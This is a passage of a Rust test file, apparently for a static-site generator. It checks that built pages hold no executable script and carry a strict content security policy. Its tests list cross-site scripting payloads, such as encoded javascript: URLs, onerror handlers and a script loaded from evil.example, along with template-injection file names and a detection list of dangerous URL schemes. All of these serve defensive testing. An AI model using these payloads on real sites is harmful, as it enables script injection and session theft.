            if matches!(name.as_str(), "style" | "srcdoc" | "formaction") {
                found.push(format!("a `{name}` attribute: {}", at()));
            }
            if !URL_ATTRIBUTES.contains(&name.as_str()) {
                continue;
            }
            // A srcset is a list of URLs, each with its size.
            let urls: Vec<&str> = if name == "srcset" {
                value.split(',').collect()
            } else {
                vec![value.as_str()]
            };
            for url in urls {
                let read = url_as_read(url);
                for scheme in ["javascript:", "vbscript:", "livescript:", "data:"] {
                    if read.starts_with(scheme) {
                        found.push(format!("a {scheme} URL: {}", at()));
                    }
                }
                let loads = LOADED.contains(&name.as_str())
                    || (tag.name == "link"
                        && name == "href"
                        && tag.attr("rel") == Some("stylesheet"));
                if loads && leaves_the_site(url) {
                    found.push(format!("a load from another site: {}", at()));
                }
            }
        }
    }
    found
}

/// The directives of a policy (`name` → its values).
fn directives(policy: &str) -> BTreeMap<String, String> {
    policy
        .split(';')
        .filter_map(|d| {
            let mut words = d.split_whitespace();
            let name = words.next()?.to_ascii_lowercase();
            Some((name, words.collect::<Vec<_>>().join(" ")))
        })
        .collect()
}

#[test]
fn there_are_at_least_thirty_vectors() {
    let v = vectors();
    let ids: std::collections::BTreeSet<&str> = v.iter().map(|v| v.id).collect();
    assert_eq!(ids.len(), v.len(), "vector ids are unique");
    assert!(v.len() >= 30, "{} vectors", v.len());
    assert!(v.iter().all(|v| !v.what.is_empty() && !v.files.is_empty()));
}

#[test]
fn the_reader_finds_what_it_looks_for() {
    // The checker itself, on what it must catch and what it must let pass.
    for bad in [
        "<a href=\"jav&#x09;ascript:x\">",
        "<a href='JaVaScRiPt&colon;x'>",
        "<img src=x onerror=y>",
        "<p STYLE=\"x\">",
        "<img src=\"//evil.example/a\">",
        "<img srcset=\"https://evil.example/a 1x\">",
        "<script>x</script>",
        "<script src=\"https://evil.example/assets/docket.js\" onload=x></script>",
        "<meta http-equiv=refresh content=0>",
        "<svg><animate attributeName=href values=javascript:x></svg>",
        "<form action=\"https://evil.example/\">",
        "<iframe srcdoc=\"x\">",
    ] {
        assert!(!executable(bad).is_empty(), "not caught: {bad}");
    }
    for good in [
        "<a href=\"https://a.example/javascript\">javascript:x</a>",
        "<img src=\"../img/a.png\" alt=\"onerror=x\">",
        "<script src=\"../assets/docket.js\" defer></script>",
        "<title><img src=x onerror=y></title>",
        "<!-- <img src=x onerror=y> -->",
        "<p title=\"&lt;img src=x onerror=y&gt;\">",
        "<form role=\"search\" class=\"search\" action=\"../search.html\">",
    ] {
        assert!(
            executable(good).is_empty(),
            "caught: {good}: {:?}",
            executable(good)
        );
    }
}

#[test]
fn the_built_html_holds_nothing_executable() {
    let (_repo, site) = build_site(None);
    let files = files_under(&site);
    let pages: Vec<&String> = files.iter().filter(|f| f.ends_with(".html")).collect();
    // Every vector's document has a page (a file name is kept: the URL is
    // percent-encoded, the file on disk is not, but for a character that would
    // make the name more than one file name, such as the colon of `c:x`, which
    // stays encoded there too).
    for wanted in [
        "hostile/b01.html",
        "hostile/f07.html",
        "decisions/0001-title.html",
        "briefs/hostile.html",
        "people/mallory.html",
        "proposals/prop-1.html",
        "hostile/{{ 7*191 }}.html",
        "javascript%3Awindow.__pwned='n03'.html",
    ] {
        assert!(
            files.iter().any(|f| f == wanted),
            "no page {wanted}; the site has:\n{}",
            files.join("\n")
        );
    }
    let mut problems = Vec::new();
    let mut policies = std::collections::BTreeSet::new();
    for rel in &pages {
        let html = std::fs::read_to_string(site.join(rel)).unwrap();
        for p in executable(&html) {
            problems.push(format!("{rel}: {p}"));
        }
        // Template syntax from the input is text, never evaluated.
        for evaluated in ["1337", "tplran", "loopranloopran"] {
            if html.contains(evaluated) {
                problems.push(format!(
                    "{rel}: a template expression was evaluated (`{evaluated}`)"
                ));
            }
        }
        // The policy is the first thing after the character set.
        let tags = start_tags(&html);
        let meta = tags.iter().position(|t| {
            t.name == "meta"
                && t.attr("http-equiv")
                    .is_some_and(|e| e.eq_ignore_ascii_case("content-security-policy"))
        });
        match meta {
            Some(i)
                if tags[..i].iter().all(|t| {
                    matches!(t.name.as_str(), "html" | "head" | "meta")
                        && t.attr("http-equiv").is_none()
                }) =>
            {
                policies.insert(tags[i].attr("content").unwrap_or_default().to_string());
            }
            Some(_) => problems.push(format!("{rel}: something comes before the policy")),
            None => problems.push(format!("{rel}: no Content-Security-Policy")),
        }
    }
    assert!(
        problems.is_empty(),
        "{} problems in {} pages:\n{}",
        problems.len(),
        pages.len(),
        problems.join("\n")
    );
    // One policy on every page, the locked-down one.
    assert_eq!(policies.len(), 1, "{policies:?}");
    let policy = policies.into_iter().next().unwrap();
    let d = directives(&policy);
    for (name, want) in [
        ("default-src", "'none'"),
        ("script-src", "'self'"),
        ("style-src", "'self'"),
        ("img-src", "'self'"),
        ("font-src", "'self'"),
        ("base-uri", "'none'"),
        ("form-action", "'self'"),
    ] {
        assert_eq!(
            d.get(name).map(String::as_str),
            Some(want),
            "{name} in {policy}"
        );
    }
    assert!(!policy.contains("unsafe"), "{policy}");
    // `_headers` says the same as a header, and what only a header can say.
    let headers = std::fs::read_to_string(site.join("_headers")).unwrap();
    let csp = headers
        .lines()
        .find_map(|l| l.trim().strip_prefix("Content-Security-Policy: "))
        .unwrap_or_else(|| panic!("no policy in _headers:\n{headers}"));
    assert_eq!(
        csp,
        format!("{policy}; frame-ancestors 'none'"),
        "_headers and the pages' policy differ"
    );
    for header in [
        "X-Content-Type-Options: nosniff",
        "X-Frame-Options: DENY",
        "Referrer-Policy: no-referrer",
    ] {
        assert!(
            headers.contains(header),
            "no {header} in _headers:\n{headers}"
        );
    }
    assert!(headers.lines().any(|l| l == "/*"), "{headers}");
    // The search index carries the hostile titles as data only.
    let index = std::fs::read_to_string(site.join("search-index.js")).unwrap();
    assert!(
        !index.contains("</script>"),
        "the search index holds a raw </script>"
    );
}

#[test]
fn headers_are_no_page_of_the_sitemap() {
    let (_repo, site) = build_site(Some("https://handbook.example/"));
    let sitemap = std::fs::read_to_string(site.join("sitemap.xml")).unwrap();
    assert!(
        sitemap.contains("https://handbook.example/index.html"),
        "{sitemap}"
    );
    assert!(!sitemap.contains("_headers"), "{sitemap}");
}

#[test]
fn a_team_headers_file_is_kept() {
    let repo = Repo::new();
    repo.write_all(common::MINIMAL);
    repo.write("docs/_headers", "/*\n  X-Team: ours\n");
    repo.commit("our own headers");
    let site = repo.path().join("site");
    repo.docket()
        .args(["build", repo.path().to_str().unwrap(), "--out"])
        .args([site.to_str().unwrap()])
        .run()
        .assert_code(0);
    assert_eq!(
        std::fs::read_to_string(site.join("_headers")).unwrap(),
        "/*\n  X-Team: ours\n"
    );
}

#[test]
fn a_javascript_repo_url_is_refused() {
    let repo = Repo::new();
    repo.write_all(common::MINIMAL);
    repo.write(
        "docket.toml",
        "root = \"docs\"\n\n[site]\nrepo_url = \"javascript:alert(document.domain)//\"\n",
    );
    repo.commit("a hostile repo_url");
    let site = repo.path().join("site");
    let run = repo
        .docket()
        .args(["build", repo.path().to_str().unwrap(), "--out"])
        .args([site.to_str().unwrap()])
        .run();
    run.assert_code(2);
    assert!(
        run.stderr
            .contains("`[site] repo_url` must be a web address"),
        "{run}"
    );
    assert!(
        !site.exists(),
        "a site was built with a javascript: repo_url"
    );
}

#[test]
fn no_vector_runs_in_a_real_browser() {
    let Some((chromium, workspace)) = common::browser::available() else {
        return;
    };
    let (_repo, site) = build_site(None);
    common::browser::run_script(
        &chromium,
        workspace,
        "hostile.test.mjs",
        [site.as_os_str(), "--search".as_ref(), SEARCH_WORD.as_ref()],
        "a hostile vector got through in the browser",
    );
}

/// `--base-url` goes into every link of the feed and the sitemap: like
/// `[site] base_url`, it must be a web address, and anything else is refused before
/// a site is written.
#[test]
fn a_base_url_that_is_no_web_address_is_refused() {
    let repo = Repo::new();
    repo.write_all(common::MINIMAL);
    repo.commit("a handbook");
    let site = repo.path().join("site");
    for base in [
        "javascript:alert(1)//",
        "JaVaScRiPt:x",
        "/relative/",
        "data:text/html,x",
    ] {
        let run = repo
            .docket()
            .args(["build", repo.path().to_str().unwrap(), "--out"])
            .args([site.to_str().unwrap(), "--base-url", base])
            .run();
        run.assert_code(2);
        assert!(
            run.stderr.contains("is not a web address") && run.stderr.contains("https://"),
            "{run}"
        );
        assert!(!site.exists(), "a site was written with --base-url {base}");
    }
}
